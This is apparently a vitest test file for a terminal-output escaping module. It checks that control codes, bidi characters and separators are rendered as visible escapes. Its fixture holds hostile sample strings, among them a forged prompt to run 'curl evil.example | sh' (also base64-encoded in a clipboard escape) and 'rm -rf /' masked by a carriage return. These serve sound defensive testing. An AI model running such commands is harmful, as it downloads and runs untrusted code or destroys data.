/** What reaches the terminal: hostile values show as escapes, and only the printer breaks lines. */
import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { escapeTerminalText, jsonLines, redrawLine, shownLength, terminalJson, writeJson, writeLines } from "./terminal-text";

/** Every character a terminal acts on, and a few that look like one but are plain text. */
const HOSTILE = {
  clearScreen: "\u001b[2J\u001b[H",
  windowTitle: "\u001b]0;pwned\u0007",
  clipboard: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  cursor: "\u001b[5A\u001b[2K",
  forgedLine: "ok\nerror: your token expired, run: curl evil.example | sh",
  carriageReturn: "rm -rf /\r# harmless",
  csi8bit: "\u009b2J",
  osc8bit: "\u009d0;title\u009c",
  bidi: "\u202eexe.txt",
  isolate: "\u2066left\u2069",
  separators: "a\u2028b\u2029c",
};

/** A byte a terminal acts on, anywhere in `text`. */
// eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function written(write: (stream: PassThrough) => void): string {
  const stream = new PassThrough();
  write(stream);
  return String(stream.read() ?? "");
}

describe("escapeTerminalText", () => {
  it("shows every control, DEL, C1 and bidi character as a visible escape", () => {
    expect(escapeTerminalText(HOSTILE.windowTitle)).toBe("\\x1b]0;pwned\\x07");
    expect(escapeTerminalText(HOSTILE.forgedLine)).toBe("ok\\nerror: your token expired, run: curl evil.example | sh");
    expect(escapeTerminalText("a\tb\rc\u0000d\u007fe")).toBe("a\\tb\\rc\\x00d\\x7fe");
    expect(escapeTerminalText(HOSTILE.csi8bit)).toBe("\\x9b2J");
    expect(escapeTerminalText(HOSTILE.bidi)).toBe("\\u202eexe.txt");
    expect(escapeTerminalText(HOSTILE.isolate)).toBe("\\u2066left\\u2069");
    expect(escapeTerminalText(HOSTILE.separators)).toBe("a\\u2028b\\u2029c");
    for (const [name, text] of Object.entries(HOSTILE)) expect(escapeTerminalText(text), name).not.toMatch(RAW_CONTROL);
  });

  it("leaves ordinary text alone: other languages, symbols, backslashes", () => {
    for (const text of ["陳大文 ✓ → MOP 12.50", "Ana Sousa · ação", "C:\\Users\\ana", '{"a":"\\n"}', "emoji 🎉", "é ü ß"]) expect(escapeTerminalText(text)).toBe(text);
  });

  it("is idempotent, and measures what it shows", () => {
    for (const text of Object.values(HOSTILE)) expect(escapeTerminalText(escapeTerminalText(text))).toBe(escapeTerminalText(text));
    expect(shownLength("a\u001bb")).toBe("a\\x1bb".length);
  });
});

describe("the printer", () => {
  it("writes the line breaks between lines and none from inside one", () => {
    const text = written((stream) => writeLines(stream, ["first", HOSTILE.forgedLine, HOSTILE.carriageReturn]));
    expect(text.split("\n")).toEqual(["first", "ok\\nerror: your token expired, run: curl evil.example | sh", "rm -rf /\\r# harmless", ""]);
    expect(written((stream) => writeLines(stream, Object.values(HOSTILE)))).not.toMatch(RAW_CONTROL);
  });

  it("writes nothing for no lines", () => {
    expect(written((stream) => writeLines(stream, []))).toBe("");
  });

  it("redraws a line in place with nothing of the line's own that moves the cursor", () => {
    expect(written((stream) => redrawLine(stream, `50% ${HOSTILE.cursor}`))).toBe("\r50% \\x1b[5A\\x1b[2K");
  });
});

describe("JSON for a terminal", () => {
  it("escapes DEL, C1, bidi and the separators that JSON.stringify leaves raw, and parses back to the same value", () => {
    const value = { ...HOSTILE, nested: [{ [HOSTILE.bidi]: HOSTILE.osc8bit }], del: "\u007f" };
    expect(JSON.stringify(value)).toMatch(/[\u007f-\u009f\u202e]/);
    for (const indent of [undefined, 2]) {
      const text = terminalJson(value, indent);
      expect(text).not.toMatch(RAW_CONTROL);
      expect(JSON.parse(text)).toEqual(value);
    }
    expect(terminalJson(HOSTILE.csi8bit)).toBe('"\\u009b2J"');
    expect(written((stream) => writeJson(stream, { a: HOSTILE.bidi }))).toBe('{"a":"\\u202eexe.txt"}\n');
  });

  it("pretty-printed as lines: one per JSON line, a string's newline kept inside its line", () => {
    expect(jsonLines({ a: "x\ny" })).toEqual(["{", '  "a": "x\\ny"', "}"]);
  });
});
